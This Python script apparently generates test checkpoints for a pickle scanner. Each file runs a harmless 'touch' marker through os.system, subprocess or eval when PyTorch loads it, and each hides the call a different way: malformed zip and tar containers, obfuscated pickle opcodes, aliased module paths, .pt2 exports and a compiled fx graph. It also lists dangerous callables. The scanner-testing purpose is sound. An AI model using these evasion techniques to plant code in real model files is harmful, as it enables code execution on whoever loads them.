"""Makes checkpoints that call a function where PyTorch loads them: one of each way to hide that.

Why: a reader of pickles is worth what it says of files that were made to get past it.
Always: what they call creates an empty file of the name MARKER in the current folder, or fails at once.

    python scripts/pickle-names/hostile.py wasm-tests/fixtures/pickles/hidden-calls.jsonl
    python scripts/pickle-names/hostile.py --run wasm-tests/fixtures/pickles/hidden-calls.jsonl     with PyTorch

A case is a line of JSON: its kind and name, the file (zlib, base64), and the names that a reader has to find (none where a
file may only be refused). `--run` loads each of them in a process and a folder of its own, and says which of them run.
Kinds: structure (of files), opcodes, names, exported (.pt2), re-exports.
"""

import base64
import io
import json
import os
import pathlib
import struct
import sys
import tarfile
import tempfile
import zlib

MARKER = "monoquant-ran"
COMMAND = f"touch {MARKER}"
FLOAT = struct.pack("<f", 1.0)


# pickles

def text(value):
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(path):
    """GLOBAL of the last dot's two sides; "a:b.c" says itself where the module ends."""
    module, attribute = path.split(":") if ":" in path else path.rsplit(".", 1)
    return f"c{module}\n{attribute}\n".encode()


def stacked(module, attribute):
    return text(module) + text(attribute) + b"\x93"


def call(function, *arguments):
    return (function if isinstance(function, bytes) else name(function)) + b"(" + b"".join(arguments) + b"tR"


SYSTEM = call("os.system", text(COMMAND))
POP = b"0"


def pickled(value, protocol=2):
    return bytes([0x80, protocol]) + value + b"."


def storage(key="0"):
    return b"(" + text("storage") + name("torch.FloatStorage") + text(key) + text("cpu") + b"K\x01tQ"


TENSOR = call("torch._utils._rebuild_tensor_v2", storage(), b"K\x00", b"(K\x01t", b"(K\x01t", b"\x89",
              call("collections.OrderedDict"))


def state(*more):
    """{"w": a tensor, and what comes in front of the last entry}."""
    return b"}(" + b"".join(more) + text("w") + TENSOR + b"u"


def entry(value):
    return text("x") + value


# containers

def zip_of(members, comment=b"", base=0, flags=0):
    """`members`: (name, content) or (name, content, {"crc", "local", "deflate", "flags"})."""
    body, directory = b"", b""
    for member in members:
        path, content = member[:2]
        how = member[2] if len(member) > 2 else {}
        stored, method = content, 0
        if how.get("deflate"):
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            stored, method = packer.compress(content) + packer.flush(), 8
        crc = how.get("crc", zlib.crc32(content))
        mode = how.get("flags", flags)
        local = how.get("local", path)
        local, path = (part if isinstance(part, bytes) else part.encode() for part in (local, path))
        sizes = struct.pack("<HHIII", 0, 0, crc, len(stored), len(content))
        offset = base + len(body)
        body += struct.pack("<IHHH", 0x04034B50, 20, mode, method) + sizes + struct.pack("<HH", len(local), 0) + local + stored
        directory += struct.pack("<IHHHH", 0x02014B50, 20, 20, mode, method) + sizes
        directory += struct.pack("<HHHHHII", len(path), 0, 0, 0, 0, 0, offset) + path
    count = len(members)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(directory), base + len(body), len(comment))
    return body + directory + end + comment


def checkpoint(value, *more, protocol=2, **how):
    return zip_of(members_of(pickled(value, protocol), *more), **how)


def members_of(data, *more, data_how=None):
    return [("a/data.pkl", data, data_how or {}), ("a/data/0", FLOAT), ("a/version", b"3\n"), *more]


def captured():
    """Inputs of a layer with 64 columns, four rows."""
    values = struct.pack("<256f", *(float(i % 7) for i in range(256)))
    tensor = TENSOR.replace(storage(), storage().replace(b"K\x01tQ", b"M\x00\x01tQ"))
    tensor = tensor.replace(b"(K\x01t(K\x01t", b"(K\x04K\x40t(K\x40K\x01t")
    data = pickled(b"}(" + entry(SYSTEM) + text("fc") + tensor + b"u")
    return zip_of([("a/data.pkl", data), ("a/data/0", values, {"deflate": True}), ("a/version", b"3\n")])


def legacy(where, what=SYSTEM + POP):
    """The stream before 1.6, with a call in front of one of its five pickles."""
    magic = b"\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19"
    info = b"}(" + text("protocol_version") + b"M\xe9\x03" + text("little_endian") + b"\x88" + text("type_sizes") + b"}u"
    old = b"(" + text("storage") + name("torch.FloatStorage") + text("0") + text("cpu") + b"K\x01NtQ"
    value = state().replace(storage(), old)
    pickles = [magic, b"M\xe9\x03", info, value, b"](" + text("0") + b"e"]
    stream = b"".join(pickled((what if i == where else b"") + each) for i, each in enumerate(pickles))
    return stream + struct.pack("<q", 1) + FLOAT


def tar_of(where, twice=False, signed=False):
    def maybe(place, value):
        return pickled((SYSTEM + POP if place == where else b"") + value)

    storages = maybe("count", b"K\x01") + maybe("storage", b"(K\x07" + text("cpu") + name("torch.FloatStorage") + b"t")
    storages += struct.pack("<q", 1) + FLOAT + maybe("views", b"]")
    tensors = maybe("tensors", b"K\x01") + pickled(b"(K\x0bK\x07" + name("torch.FloatTensor") + b"t")
    tensors += struct.pack("<qqqq", 1, 1, 1, 0)
    members = [("storages", storages), ("tensors", tensors), ("pickle", maybe("pickle", b"}(" + text("w") + text("11") + b"Qu"))]
    if twice:
        members.append(("./pickle", pickled(SYSTEM)))
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for path, content in members:
            member = tarfile.TarInfo(path)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    data = bytearray(out.getvalue().rstrip(b"\0") + b"\0" * 1024)
    if signed:  # what some old tars summed: bytes of text beyond ASCII count as negative
        data[0:8] = "störages".encode("latin-1")[:8]
        data[148:156] = b" " * 8
        total = sum(byte - 256 if byte > 127 else byte for byte in data[:512])
        data[148:156] = b"%06o\0 " % total
    return bytes(data)


CASES = []


def case(kind, title, file, *names):
    CASES.append({"kind": kind, "name": title, "names": list(names), "file": base64.b64encode(zlib.compress(file, 9)).decode()})


CALLED = "os.system"


def structures():
    add = lambda *words: case("structure", *words)  # noqa: E731
    for where, title in enumerate(("magic number", "protocol", "machine", "object", "list of storages")):
        add(f"the old stream's {title}", legacy(where), CALLED)
    for where in ("count", "storage", "views", "tensors", "pickle"):
        add(f"the old tar's {where}", tar_of(where), CALLED)
    add("a tar with two members of one name", tar_of(None, twice=True))
    add("a tar with a sum of signed bytes", tar_of("pickle", signed=True))
    inner = members_of(pickled(state(entry(SYSTEM))))
    outer = zip_of(members_of(pickled(state())))
    hidden = zip_of(inner, base=len(outer) - 22 + 22)
    add("an archive in the other's comment", outer[:-2] + struct.pack("<H", len(hidden) + 1) + hidden + b"\0")
    add("an archive behind the other", outer + hidden)
    add("an archive behind an old stream", legacy(None) + zip_of(inner, base=len(legacy(None))))
    add("an old stream in front of an archive, with offsets of its own", legacy(3) + outer)
    evil = pickled(state(entry(SYSTEM)))
    add("names that differ by case", zip_of([("a/DATA.PKL", evil), *members_of(pickled(state()))]))
    add("two members of one name", zip_of([*members_of(pickled(state())), ("a/data.pkl", evil)]))
    add("a checksum of 0", zip_of(members_of(evil, data_how={"crc": 0})), CALLED)
    add("a wrong checksum", zip_of(members_of(evil, data_how={"crc": 7})))
    add("a flag of encryption", zip_of(members_of(evil, data_how={"flags": 1})))
    add("a flag of UTF-8", zip_of(members_of(evil, data_how={"flags": 0x800})), CALLED)
    add("a flag of sizes behind the data", zip_of(members_of(evil, data_how={"flags": 8})))
    add("another name in the local header", zip_of(members_of(evil, data_how={"local": "a/DOTA.pkl"})))
    add("a deflated pickle", zip_of(members_of(evil, data_how={"deflate": True})), CALLED)
    add("a name with NUL", zip_of([("a/data.pkl\0.txt", evil), *members_of(pickled(state()))[1:]]))
    add("a name behind NUL", zip_of([*members_of(pickled(state())), ("a/data.pkl\0", evil)]))
    add("two folders", zip_of([*members_of(pickled(state())), ("b/data.pkl", evil), ("b/data/0", FLOAT), ("b/version", b"3\n")]))
    add("constants beside a state dict", checkpoint(state(), ("a/constants.pkl", pickled(SYSTEM))), CALLED)
    add("a checkpoint in a checkpoint", checkpoint(state(), ("a/extra/x", checkpoint(state(entry(SYSTEM))))), CALLED)
    add("a checkpoint in another archive", zip_of([("model.pt", checkpoint(state(entry(SYSTEM))))]), CALLED)
    add("captured inputs of a layer called fc", captured(), CALLED)
    array = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }\n"
    array = b"\x93NUMPY\1\0" + struct.pack("<H", len(array)) + array + pickled(SYSTEM)
    add("an array of objects in an archive of arrays", zip_of([("w.npy", array)]), CALLED)
    add("an array of objects", array, CALLED)
    add("a pickle that is no checkpoint", pickled(SYSTEM), CALLED)
    add("Python beside a program", checkpoint(state(), ("a/constants.pkl", pickled(b")")), ("a/extra/x.py", b"import os\n")))


def opcodes():
    add = lambda title, value, *names, **how: case("opcodes", title, checkpoint(state(entry(value)), **how), *names)  # noqa: E731
    argument = b"(" + text(COMMAND) + b"t"
    add("GLOBAL and REDUCE", SYSTEM, CALLED)
    add("STACK_GLOBAL", call(stacked("os", "system"), text(COMMAND)), CALLED, protocol=4)
    add("INST", b"(" + text(COMMAND) + b"ios\nsystem\n", CALLED)
    add("OBJ", b"(" + name("os.popen") + text(COMMAND) + b"o", "os.popen")
    add("NEWOBJ", name("subprocess.Popen") + b"((" + text("touch") + text(MARKER) + b"lt\x81", "subprocess.Popen")
    add("NEWOBJ_EX", name("subprocess.Popen") + b"((" + text("touch") + text(MARKER) + b"lt}\x92", "subprocess.Popen")
    add("EXT", call("copyreg.add_extension", text("os"), text("system"), b"K\x01") + POP + b"\x82\x01" + argument + b"R")
    add("a name in STRING with escapes", b"S'\\x6fs'\nS'sys\\x74em'\n\x93" + argument + b"R", CALLED, protocol=4)
    add("a name in UNICODE with escapes", b"V\\u006fs\nV\\u0073ystem\n\x93" + argument + b"R", CALLED, protocol=4)
    add("a name from the memo", text("os") + b"q\x05" + POP + text("system") + b"q\x06" + POP + b"h\x05h\x06\x93" + argument + b"R",
        CALLED, protocol=4)
    add("a memo that is changed", text("math") + b"q\x05" + POP + text("os") + b"q\x05" + POP + b"h\x05" + text("system") + b"\x93" + argument + b"R",
        CALLED, protocol=4)
    add("a function from the memo", name("os.system") + b"q\x05" + POP + b"h\x05" + argument + b"R", CALLED)
    add("a name that is doubled", text("posix") + b"20" + text("system") + b"\x93" + argument + b"R", "posix.system", protocol=4)
    framed = b"\x95" + struct.pack("<Q", len(SYSTEM)) + SYSTEM
    add("a frame", framed, CALLED, protocol=4)
    case("opcodes", "protocol 0", zip_of(members_of(b"(dS'x'\ncos\nsystem\n(V" + COMMAND.encode() + b"\ntRs" + text("w") + TENSOR + b"s.")), CALLED)
    add("a result that is dropped", SYSTEM + POP + b"N", CALLED)
    add("a result that is dropped with its mark", b"(" + SYSTEM + b"1N", CALLED)
    case("opcodes", "a key", checkpoint(b"}(" + SYSTEM + b"N" + text("w") + TENSOR + b"u"), CALLED)
    case("opcodes", "a persistent id", checkpoint(state(entry(b"(" + SYSTEM + text("0") + b"tQ"))), CALLED)
    case("opcodes", "a tensor's argument", checkpoint(state(entry(call("torch._utils._rebuild_tensor_v2", SYSTEM)))), CALLED)
    inner = pickled(SYSTEM)
    add("a pickle in a pickle", call("pickle.loads", b"C" + bytes([len(inner)]) + inner), "pickle.loads", protocol=3)
    add("an error behind the call", SYSTEM + POP + call("builtins.int", text("x")), CALLED)
    for title, end in (("no opcode", b"\xff"), ("no end", b""), ("an empty stack", b"00000000000R")):
        broken = b"\x80\x02" + SYSTEM + POP + end
        case("opcodes", f"{title} behind the call", zip_of(members_of(broken)), CALLED)
        case("opcodes", f"{title} behind the call, in a stream", broken, CALLED)
    case("opcodes", "a storage that is not there, behind the call", zip_of([("a/data.pkl", pickled(state(entry(SYSTEM)))), ("a/version", b"3\n")]), CALLED)
    case("opcodes", "a call and no tensor", zip_of(members_of(pickled(SYSTEM))), CALLED)
    add("functools.partial", call(call("functools.partial", name("os.system"), text(COMMAND))), CALLED)
    add("operator.methodcaller", call(call("operator.methodcaller", text("system"), text(COMMAND)), name("builtins:__import__") + b"(" + text("os") + b"tR"),
        "operator.methodcaller", "builtins.__import__")
    add("map", call("builtins.list", call("builtins.map", name("os.system"), b"(" + text(COMMAND) + b"l")), CALLED, "builtins.map")
    add("a name with dots", call(stacked("os", "path.os.system"), text(COMMAND)), "os.path.os.system", protocol=4)
    add("builtins of numpy", call("numpy:__builtins__.__getitem__", text("exec")), "numpy.__builtins__.__getitem__", protocol=4)
    add("BUILD that replaces __call__", call("argparse.Namespace") + b"}" + text("__setstate__") + name("os.system") + b"sb"
        + text(COMMAND) + b"b", CALLED)
    add("APPENDS to a chosen extend", call("argparse.Namespace") + b"}" + text("extend") + name("os.system") + b"sb(" + text(COMMAND) + b"e", CALLED)


# A function, and arguments with which it creates the marker; without arguments it is only named.
ALIASES = """
random._os.system  argparse._os.popen  enum.bltns.exec  numpy._builtins.eval  pprint._types.FunctionType
torch.storage.io.open  enum.bltns.getattr  torch.serialization.os.system  torch.hub.shutil.rmtree
logging.os.system  tempfile._os.system  uuid.os.system  inspect.builtins.eval  typing.sys.modules
dataclasses.builtins.exec  collections._sys.modules  numpy.core.numeric.builtins.eval  torch._utils.sys.modules
glob.os.system  platform.subprocess.Popen  copyreg.sys.modules  weakref._sys.modules
""".split()
FUNCTIONS = """
numpy.core.fromnumeric._wrapfunc  torch._utils._import_dotted_name  typing.ForwardRef._evaluate  dataclasses._create_fn
mailcap.findmatch  _osx_support._read_output  torch.distributed.distributed_c10d._unpickler.load  cStringIO.open
pathlib.Path.write_text  logging.FileHandler  torch._C.PyTorchFileWriter  numpy.core.memmap.memmap  argparse.FileType
numpy.load  numpy.fromfile  numpy.save  numpy.lib.npyio.save  torch.load  torch.save  torch.hub.load  torch.jit.load  torch.package.PackageImporter
torch.utils.cpp_extension.load  torch.ops.load_library  torch.classes.load_library  ctypes.CDLL  importlib.import_module
runpy.run_path  timeit.timeit  code.InteractiveInterpreter  bdb.Bdb.run  cProfile.run  pdb.run  doctest.debug_script
webbrowser.open  urllib.request.urlopen  socket.create_connection  smtplib.SMTP  ftplib.FTP  http.client.HTTPConnection
zipfile.ZipFile  tarfile.open  shutil.rmtree  shelve.open  dbm.open  sqlite3.connect  multiprocessing.Process
asyncio.create_subprocess_shell  pty.spawn  nt.system  posix.system  commands.getoutput  popen2.popen3
joblib.load  pandas.read_pickle  dill.loads  cloudpickle.loads  yaml.unsafe_load  builtins.exec  builtins.getattr
__builtin__.eval  lib2to3.pgen2.grammar.Grammar.loadp  idlelib.pyshell.ModifiedInterpreter.runcommand  pydoc.pipepager
test.support.script_helper.assert_python_ok  site.execsitecustomize  ensurepip.version  venv.EnvBuilder  types.CodeType
marshal.loads  gc.get_objects  sys.settrace  operator.attrgetter  operator.call  functools.reduce  atexit.register
signal.signal  threading.Timer  concurrent.futures.ProcessPoolExecutor  distutils.file_util.copy_file  _aix_support._read_cmd_output
_pyrepl.pager.pipe_pager  uuid._get_command_stdout  filecmp.cmp  syslog.syslog  difflib.HtmlDiff
""".split()


def names():
    for path in (*ALIASES, *FUNCTIONS):
        first = path.split(".")[0]
        whole = {"random", "argparse", "enum", "pprint", "logging", "tempfile", "uuid", "inspect", "typing", "dataclasses",
                 "collections", "glob", "platform", "copyreg", "weakref"}
        split = path.split(".", 1) if path in ALIASES and first in whole else path.rsplit(".", 1)
        value = call(stacked(*split), text(COMMAND))
        case("names", path, checkpoint(state(entry(value)), protocol=4), path)
    runs = [
        ("random", "_os.system", text(COMMAND)),
        ("enum", "bltns.exec", text(f"open('{MARKER}', 'w')")),
        ("torch.storage", "io.open", text(MARKER), text("w")),
        ("numpy", "_builtins.eval", text(f"open('{MARKER}', 'w')")),
        ("numpy", "save", text(MARKER + ".npy"), b"K\x01"),
    ]
    for module, attribute, *arguments in runs:
        value = call(stacked(module, attribute), *arguments)
        case("names", f"{module}.{attribute} called", checkpoint(state(entry(value)), protocol=4), f"{module}.{attribute}")


def exported():
    """Programs of torch.export with one weight, as far as a reader looks at them."""

    def program(*more, pickled_weight=False):
        meta = {"dtype": 7, "sizes": [{"as_int": 1}], "strides": [{"as_int": 1}], "storage_offset": {"as_int": 0}, "layout": 7}
        config = {"w": {"path_name": "weight_0", "is_param": True, "use_pickle": False, "tensor_meta": meta}}
        if pickled_weight:
            config["x"] = {"path_name": "weight_1", "is_param": True, "use_pickle": True, "tensor_meta": meta}
        return zip_of([("m/archive_format", b"pt2"), ("m/data/weights/model_weights_config.json", json.dumps({"config": config}).encode()),
                       ("m/data/weights/weight_0", FLOAT), *more])

    evil = checkpoint(state(entry(SYSTEM)))
    add = lambda *words: case("exported", *words)  # noqa: E731
    add("example inputs", program(("m/data/sample_inputs/model.pt", evil)), CALLED)
    add("a pickled weight", program(("m/data/weights/weight_1", evil), pickled_weight=True), CALLED)
    add("an opaque object", program(("m/data/constants/opaque_obj_0", pickled(SYSTEM))), CALLED)
    add("weights of an old export", program(("m/data/weights/model.pt", legacy(3))), CALLED)
    add("an archive in an archive", program(("m/extra/x", zip_of([("y.pt", evil)]))), CALLED)
    add("native code", program(("m/data/aotinductor/model/wrapper.so", b"\x7fELF")))
    add("Python", program(("m/data/x.py", b"import os\n")))


def re_exports():
    """A module that imports a class is not where it is defined: fx.convert's GraphModule compiles a graph's text."""
    module = "torch.ao.quantization.fx.convert"

    def node(number, kind, target):
        return call(stacked(module, "Node"), b"h\x00", text(f"n{number}"), text(kind), text(target), b")", b"}") + b"\x94" + POP

    def build(of, **links):
        pairs = b"".join(text(key) + value for key, value in links.items())
        return b"h" + bytes([of]) + b"}(" + pairs + b"ub" + POP

    graph = call(stacked(module, "Graph")) + b"\x94" + POP
    root = node(0, "root", "")
    held = node(1, "placeholder", f"x=__import__('os').system('{COMMAND}')")
    links = build(1, _next=b"h\x02", _prev=b"h\x02") + build(2, _next=b"h\x01", _prev=b"h\x01") + build(0, _root=b"h\x01", _len=b"K\x01")
    compiled = call(stacked(module, "GraphModule"), b"}", b"h\x00")
    value = graph + root + held + links + compiled
    case("re-exports", "a graph that is compiled", checkpoint(b"}(" + text("w") + TENSOR + text("x") + value + b"u", protocol=4),
         f"{module}.Graph", f"{module}.Node", f"{module}.GraphModule")
    for path in ("torch.ao.quantization.fx.convert.Tracer", "torch.nn.modules.module.Callable", "torch.nn.parallel.distributed.ReduceOp",
                 "torch.optim.optimizer.Callable", "timm.models._builder.load_state_dict_from_url", "torchvision.models._api.import_module",
                 "torch.nn.Linear.forward", "torch.nn.modules.linear.torch", "transformers.models.bert.modeling_bert.torch"):
        case("re-exports", path, checkpoint(state(entry(call(name(path), text(COMMAND))))), path)


def run(path):
    """Which of them create the marker, in the PyTorch that is installed."""
    import torch

    counts = {}
    for line in pathlib.Path(path).read_text().splitlines():
        found = json.loads(line)
        data = zlib.decompress(base64.b64decode(found["file"]))
        with tempfile.TemporaryDirectory() as folder:
            child = os.fork()
            if child == 0:
                os.chdir(folder)
                sys.stderr = open(os.devnull, "w")
                try:
                    torch.load(io.BytesIO(data), weights_only=False)
                except BaseException:
                    pass
                os._exit(0)
            os.waitpid(child, 0)
            ran = any(pathlib.Path(folder).iterdir())
        total = counts.setdefault(found["kind"], [0, 0])
        total[0] += 1
        total[1] += ran
        print("RAN " if ran else "    ", found["kind"], found["name"])
    for kind, (files, ran) in counts.items():
        print(f"{kind}: {ran} of {files} ran with PyTorch {torch.__version__}")


def main():
    if sys.argv[1] == "--run":
        return run(sys.argv[2])
    for make in (structures, opcodes, names, exported, re_exports):
        make()
    with open(sys.argv[1], "w", encoding="ascii") as out:
        for each in CASES:
            out.write(json.dumps(each) + "\n")
    print(f"{len(CASES)} files", file=sys.stderr)


main()
